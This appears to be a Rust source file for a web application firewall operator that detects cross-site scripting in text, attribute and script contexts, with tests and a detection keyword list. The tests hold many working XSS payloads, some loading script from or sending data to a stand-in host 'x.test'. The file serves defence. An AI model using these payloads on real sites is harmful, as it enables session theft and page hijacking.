//! `detect_markup`: does the value run script in a page, and in a way that honest markup does not? The value is taken
//! apart as browsers do, in the contexts that are named, and what runs is judged by what it calls. Of a value above
//! 1 MiB the first 1 MiB is judged. The hit's span begins at the construct, its note says what was found.
//!
//! Argument: a context or a list of them: `text` (between tags: elements, handlers, addresses, styles), `attribute`
//! (the value ends an attribute and begins others), `script` (the value ends a string of a script, is a `javascript:`
//! address or a script). The value must be in lower case and without NUL: `["lowercase", "remove_nulls"]`.
//! Example: `{"detect_markup": ["attribute", "script"]}`.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use serde_json::Value;

use crate::waf::bytes::ByteSet;

use super::markup::{self, Found};
use super::{Data, Hit, Need, Operator, OperatorError, kind_of};

/// As with libinjection's algorithms.
const MOST_BYTES: usize = 1 << 20;

#[derive(Debug)]
struct DetectMarkup {
    contexts: Vec<Context>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Context {
    Text,
    Attribute,
    Script,
}

impl Context {
    const ALL: [Context; 3] = [Context::Text, Context::Attribute, Context::Script];

    fn name(self) -> &'static str {
        match self {
            Context::Text => "text",
            Context::Attribute => "attribute",
            Context::Script => "script",
        }
    }

    fn find(self, value: &[u8]) -> Option<Found> {
        match self {
            Context::Text => markup::in_text(value),
            Context::Attribute | Context::Script
                if memchr::memchr3(b'=', b'(', b'`', value).is_none()
                    && memchr::memchr3(b'[', b'\\', b'&', value).is_none() =>
            {
                None
            }
            Context::Attribute if WORDS.is_match(value) => markup::in_attribute(value),
            Context::Script if WORDS.is_match(value) => markup::in_script(value),
            _ => None,
        }
    }
}

/// Bytes of what was found that are told.
const MOST_NOTED: usize = 64;

/// Without a tag there is no attack that does not name one of these.
const SPILL: &[&str] = &[
    "alert",
    "confirm",
    "prompt",
    "print",
    "eval",
    "function",
    "constructor",
    "settimeout",
    "setinterval",
    "setimmediate",
    "import",
    "msgbox",
    "execscript",
    "cookie",
    "location",
    "fromcharcode",
    "localstorage",
    "sessionstorage",
    "referrer",
    "domain",
    "script:",
    "vbs:",
    "\\u",
    "\\x",
    "source",
    "tostring",
    "atob",
    "[]",
    "~[]",
    "['",
    "[\"",
    "[`",
    "fetch",
    "sendbeacon",
    "xmlhttprequest",
    "activexobject",
    "write",
    "reflect",
    "getscript",
    "autofocus",
    "console",
    "createelement",
    "globaleval",
    "accesskey",
    "binding",
    "behavio",
    "expression",
    "\u{3c9}",
];

/// Nothing is called, set or hidden without one of these.
const CALLS: ByteSet = ByteSet::of(b"=(`[\\&");

static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::new(SPILL).expect("the words are a fixed list, short enough for any automaton")
});

pub(super) fn build(name: &str, argument: &Value, _: &Data) -> Result<Box<dyn Operator>, OperatorError> {
    let wrong = |problem: String| {
        OperatorError::argument(
            problem,
            format!("write {{\"{name}\": \"text\"}}, or a list of \"text\", \"attribute\", \"script\""),
        )
    };
    let list = match argument {
        Value::String(_) => std::slice::from_ref(argument),
        Value::Array(list) if !list.is_empty() => list,
        other => {
            return Err(wrong(format!("`{name}` takes a context or a list of them, not {}", kind_of(other))));
        }
    };
    let mut contexts = Vec::new();
    for item in list {
        let Some(text) = item.as_str() else {
            return Err(wrong(format!("a context of `{name}` is a text, not {}", kind_of(item))));
        };
        match Context::ALL.into_iter().find(|context| context.name() == text) {
            Some(context) if !contexts.contains(&context) => contexts.push(context),
            Some(_) => return Err(wrong(format!("`{name}` names the context `{text}` twice"))),
            None => return Err(wrong(format!("`{name}` does not know the context `{text}`"))),
        }
    }
    Ok(Box::new(DetectMarkup { contexts }))
}

impl Operator for DetectMarkup {
    fn evaluate(&self, value: &[u8]) -> Option<Hit> {
        let value = &value[..value.len().min(MOST_BYTES)];
        let found = self.contexts.iter().find_map(|context| context.find(value))?;
        let span = found.at.min(value.len())..value.len();
        let mut note = found.what;
        note.truncate(note.floor_char_boundary(MOST_NOTED));
        Some(Hit { span, note: Some(note), ..Hit::default() })
    }

    fn need(&self) -> Need {
        let spills = self.contexts.iter().any(|context| *context != Context::Text);
        let tags = self.contexts.contains(&Context::Text);
        match (tags, spills) {
            (true, false) => Need { bytes: vec![ByteSet::of(b"<")], min_len: 4, ..Need::ALWAYS },
            (false, true) => {
                let literals = SPILL.iter().map(|word| word.as_bytes().to_vec()).collect();
                Need { literals: Some(literals), bytes: vec![CALLS], min_len: 4 }
            }
            _ => Need { min_len: 4, ..Need::ALWAYS },
        }
    }

    fn describe(&self) -> String {
        let names: Vec<&str> = self.contexts.iter().map(|context| context.name()).collect();
        format!("detect_markup {}", names.join(" "))
    }

    fn steps_per_byte(&self) -> usize {
        8 * self.contexts.len()
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use proptest::sample::select;
    use serde_json::json;

    use super::super::tests::built;
    use super::*;

    fn finds(context: &str, value: &str) -> Option<String> {
        let operator = built("detect_markup", json!(context));
        let hit = operator.evaluate(value.to_ascii_lowercase().as_bytes());
        if hit.is_some() {
            assert!(operator.need().may_match(value.to_ascii_lowercase().as_bytes()), "{value}: need");
        }
        hit.and_then(|hit| hit.note)
    }

    fn all_run(context: &str, values: &[&str]) {
        for value in values {
            assert!(finds(context, value).is_some(), "{context}: {value}");
        }
    }

    fn none_runs(context: &str, values: &[&str]) {
        for value in values {
            assert_eq!(finds(context, value), None, "{context}: {value}");
        }
    }

    #[test]
    fn elements_handlers_and_addresses_that_run_script_are_found() {
        all_run(
            "text",
            &[
                "<script>alert(1)</script>",
                "<script>logChr(1)</script>",
                "\"><script>x",
                "<script src=//x.test/a.js></script>",
                "<svg><script>alert&lpar;1)",
                "<script>throw onerror=alert,1</script>",
                ">alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror=top['al'+'ert'](1)>",
                "<svg/onload=alert`1`",
                "<svg onload=\\u0061lert(1)>",
                "<img/src=`x`/onerror=alert(1)>",
                "<x onclick=[1].find(confirm)>",
                "<details open ontoggle=go()>",
                "<input autofocus onfocus=go()>",
                "<p>text</p><a href=# onmouseover=\\\"alert(document.cookie)\\\">x",
                "<a href='jav&#x09;ascript:alert(1)'>",
                "<a href=java\tscript:alert(1)>",
                "<a href=\"javascript://%0aalert(1)\">",
                "<iframe src=javascript:go()>",
                "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>",
                "<object data=data:text/html;base64,PHN2Zz4=>",
                "<svg><set attributeName=onmouseover to=alert(1)>",
                "<svg><animate attributeName=href values='x;javascript:alert(1)'>",
                "<div style='x:e\\78pression(alert(1))'>",
                "<style>*{-moz-binding:url(//x.test/x)}</style>",
                "<base href=//x.test/>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<link rel=import href=//x.test>",
                "<img src='//x.test/?",
                "<x @click=\"_c.constructor('alert(1)')()\">",
            ],
        );
    }

    #[test]
    fn honest_markup_is_left_alone() {
        none_runs(
            "text",
            &[
                "<p style=\"color:red\">text</p><img src=\"a.png\" alt=\"x\">",
                "<iframe width=\"560\" src=\"https://www.youtube.com/embed/x\" allowfullscreen></iframe>",
                "<button onclick=\"save()\">Save</button>",
                "<img src=\"a.png\" onerror=\"this.onerror=null;this.src='b.png'\">",
                "<a href=\"javascript:void(0)\" onclick=\"return false;\">x</a>",
                "<a href=\"javascript:window.print()\">Print</a>",
                "<script type=\"application/ld+json\">{\"name\":\"alert(1)\"}</script>",
                "<script>(adsbygoogle = window.adsbygoogle || []).push({});</script>",
                "<style>.a{color:red}</style>",
                "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>",
                "<button onclick={() => alert('saved')}>Save</button>",
                "<li *ngfor=\"let x of xs\" (click)=\"pick(x)\">{{ x }}</li>",
                "let m = map::<script>::new().get(1);",
                "how does the <script> tag call alert(1)",
                "i <3 you, a<b and c>d",
                "<link rel=\"stylesheet\" href=\"https://fonts.example/css?family=x\">",
                "<a onmouseover=\"this.style.color='red'\">x</a>",
                "<a href=\"#\" onclick=\"return confirm('Delete this item?')\">Delete</a>",
                "<table onmouseover=\"this.style.background='red'\"><tr><td>words</td></tr></table>",
            ],
        );
    }

    #[test]
    fn a_dialog_that_tells_something_is_an_attack_only_where_nothing_else_stands() {
        let page = format!(
            "<h1>Exercise</h1>{}<button onclick=\"alert('Well done!')\">Try</button>",
            "<p>text</p>".repeat(80)
        );
        assert_eq!(finds("text", &page), None);
        assert!(finds("text", "<button onclick=\"alert('Well done!')\">").is_some());
        assert!(finds("text", &page.replace("'Well done!'", "document.cookie")).is_some());
    }

    #[test]
    fn attributes_are_left_only_with_something_that_runs() {
        all_run(
            "attribute",
            &[
                "\" onmouseover=\"alert(1)",
                "' autofocus onfocus=go() x='",
                "x\" style=\"x:expression(alert(1))",
                "x onerror=alert(1)",
                "/#?a=b\"onload=\"alert(1)\"",
                "\" href=\"javascript:alert(1)",
            ],
        );
        none_runs(
            "attribute",
            &[
                "\"on monday\" = alert",
                "el.onclick = function () { alert('x'); }",
                "{\"onclick\":\"alert('x')\"}",
                "he said 'one = 1' and left",
            ],
        );
    }

    #[test]
    fn strings_addresses_and_bare_scripts_are_told_from_prose_and_code() {
        all_run(
            "script",
            &[
                "';alert(1)//",
                "\"-alert(1)-\"",
                "\\';alert(1)//",
                "'/alert(1)/'",
                "');fetch('//x.test')//",
                "${alert(1)}",
                "*/alert(1)/*",
                "javascript:alert(1)",
                "java\nscript:alert(1)",
                "javascript:&#97;lert(1)",
                "[a](javascript:prompt(1))",
                "top['al'+'ert'](1)",
                "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
                "https://x.test/?q=';alert(1)//",
            ],
        );
        none_runs(
            "script",
            &[
                "javascript: the good parts",
                "javascript:void(0)",
                "'stop'; print the page (twice)",
                "console.log('x'); alert('done');",
                "\"alert\" - the book (1999)",
                "let age = prompt('how old are you?', 100); alert(age)",
                "window['config'].load()",
                "how to use alert(1)",
                "['a', 'b'].map(print)",
            ],
        );
    }

    #[test]
    fn arguments_are_contexts() {
        let build = |argument| build("detect_markup", &argument, &Data::new());
        assert_eq!(build(json!(["text", "script"])).unwrap().describe(), "detect_markup text script");
        for wrong in [json!("html"), json!([]), json!(["text", "text"]), json!(true), json!([["text"]])] {
            assert!(build(wrong.clone()).is_err_and(|error| error.help.is_some()), "{wrong}");
        }
    }

    #[test]
    fn nesting_that_never_closes_comes_to_an_end() {
        let operator = built("detect_markup", json!(["text", "attribute", "script"]));
        let pieces: [&[u8]; 9] = [
            b"<a ",
            b"<script>",
            b"<iframe/srcdoc=",
            b"<style>/*",
            b"<a x=\"",
            b"<x onload=`",
            b"[](",
            b"'<!--",
            b"<svg to='<a style=\xe2\x80\x98",
        ];
        for piece in pieces {
            let value = piece.repeat((1 << 18) / piece.len());
            // With work that grew faster than the value, this would not come to an end.
            operator.evaluate(&value);
        }
    }

    fn page() -> impl Strategy<Value = Vec<u8>> {
        let piece = select(vec![
            "<",
            "</",
            ">",
            "/",
            "!",
            "-->",
            "=",
            "'",
            "\"",
            "`",
            " ",
            "script",
            "svg",
            "onload",
            "style",
            "href",
            "javascript:",
            "x",
            "[if",
            "alert",
            "(1)",
            "(",
            ")",
            "&#x6a",
            "&lt;",
            "src",
            "on",
            "data:",
            "\t",
            "<!--",
            "\\u0061",
            "\\",
            "+",
            "[",
            "]",
            "{{",
            "}}",
            "${",
            "srcdoc",
            "document.cookie",
            "\u{201c}",
            "\u{ff9f}",
            "%3c",
            "expression(",
            "@import",
            "base",
            "meta",
            ";",
            "eval",
            ".",
            "constructor",
        ]);
        let any = proptest::collection::vec(any::<u8>(), 0..3);
        let part = prop_oneof![9 => piece.prop_map(|piece| piece.as_bytes().to_vec()), 1 => any];
        proptest::collection::vec(part, 0..14).prop_map(|parts| parts.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 8_000, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn no_value_breaks_it_and_what_it_needs_is_true(value in page()) {
            for context in Context::ALL {
                let operator = built("detect_markup", json!(context.name()));
                if let Some(hit) = operator.evaluate(&value) {
                    prop_assert!(hit.span.start <= hit.span.end && hit.span.end <= value.len());
                    prop_assert!(operator.need().may_match(&value), "{}: {}", context.name(), value.escape_ascii());
                }
            }
        }
    }
}
